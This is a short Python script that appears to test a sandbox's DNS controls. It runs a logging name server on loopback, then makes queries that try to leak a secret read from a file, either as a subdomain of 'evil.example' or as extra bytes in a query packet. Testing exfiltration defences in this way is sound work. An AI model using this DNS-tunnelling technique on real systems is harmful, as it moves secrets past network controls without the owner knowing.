"""A name server on loopback (`serve FILE`: the names that it was asked for), and who asks it (`ask`)."""
import os, socket, sys

SERVER = ("127.0.0.1", 53)


def serve(file):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(SERVER)
    print("ready", flush=True)
    with open(file, "ab", buffering=0) as f:
        while True:
            question, who = s.recvfrom(4096)
            at, labels = 12, []
            while question[at]:
                labels.append(question[at + 1 : at + 1 + question[at]])
                at += 1 + question[at]
            f.write(b".".join(labels) + b"\n")
            is_address = question[at + 1 : at + 3] == b"\0\1"
            answer = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x7f\0\0\2" if is_address else b""
            counts = b"\0\1\0\1" if is_address else b"\0\1\0\0"
            s.sendto(question[:2] + b"\x81\x80" + counts + b"\0\0\0\0" + question[12 : at + 5] + answer, who)


def question(name, more=b""):
    labels = b"".join(bytes([len(p)]) + p for p in name.encode().split(b"."))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1" + more


def attempt(what, body):
    try:
        body()
        print(what, "answered", flush=True)
    except OSError as e:
        print(what, "refused" if isinstance(e, (PermissionError, socket.gaierror)) else e, flush=True)


def send(name, more=b""):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(question(name, more), SERVER)
    s.recv(512)


def connect(name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect(SERVER)
    s.send(question(name))
    s.recv(512)


def look_up(name):
    socket.getaddrinfo(name, 80, socket.AF_INET)


def ask():
    attempt("before, by the library", lambda: look_up("www.example"))
    attempt("before, sent", lambda: send("www.example"))
    attempt("before, connected", lambda: connect("www.example"))
    with open(os.environ["F"]) as f:
        secret = f.read().split(",")[0]
    attempt("cleared, sent", lambda: send("cleared.example"))
    attempt("cleared, connected", lambda: connect("cleared.example"))
    attempt("cleared, with more", lambda: send("cleared.example", secret.encode()))
    attempt("other, sent", lambda: send(secret + ".evil.example"))
    attempt("other, connected", lambda: connect(secret + ".evil.example"))
    attempt("other, by the library", lambda: look_up(secret + ".evil.example"))


if sys.argv[1] == "serve":
    serve(sys.argv[2])
else:
    ask()
